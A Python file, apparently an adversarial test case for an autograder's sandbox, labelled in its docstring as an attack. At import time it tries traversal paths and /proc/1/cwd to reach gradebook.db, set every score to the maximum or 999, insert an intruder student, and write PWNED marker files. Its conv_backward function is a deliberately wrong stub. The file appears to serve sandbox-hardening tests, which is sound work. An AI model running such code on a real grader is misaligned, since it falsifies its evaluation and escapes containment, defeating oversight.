"""Attack: open gradebook.db and give itself the maximum score; write marker files; conv backward wrong.

assignment: conv
loses: test_conv_backward_stride1 test_conv_backward_stride_pad test_conv_backward_shapes
"""
import os
import sqlite3
for db in ["__COURSE__/gradebook.db", "../../../gradebook.db", "../../gradebook.db",
           "/proc/1/cwd/gradebook.db"]:
    try:
        con = sqlite3.connect(db, timeout=1)
        con.execute("UPDATE grade SET manual_score = max_score")
        con.execute("UPDATE grade SET auto_score = 999")
        con.execute("INSERT INTO student (id) VALUES ('__TOKEN__intruder')")
        con.commit()
        print("LE" + "AK: wrote", db)
    except Exception as exc:
        print("blocked:", db, type(exc).__name__)
for path in ["__COURSE__/PWNED___TOKEN__", "/tmp/PWNED___TOKEN__", "/work/PWNED___TOKEN__",
             os.path.expanduser("~/PWNED___TOKEN__")]:
    try:
        with open(path, "w") as f:
            f.write("x")
    except Exception as exc:
        print("blocked:", path, type(exc).__name__)


def conv_backward_naive(dout, cache):
    x, w, b, conv_param = cache
    return np.zeros_like(x), np.zeros_like(w), np.zeros_like(b)
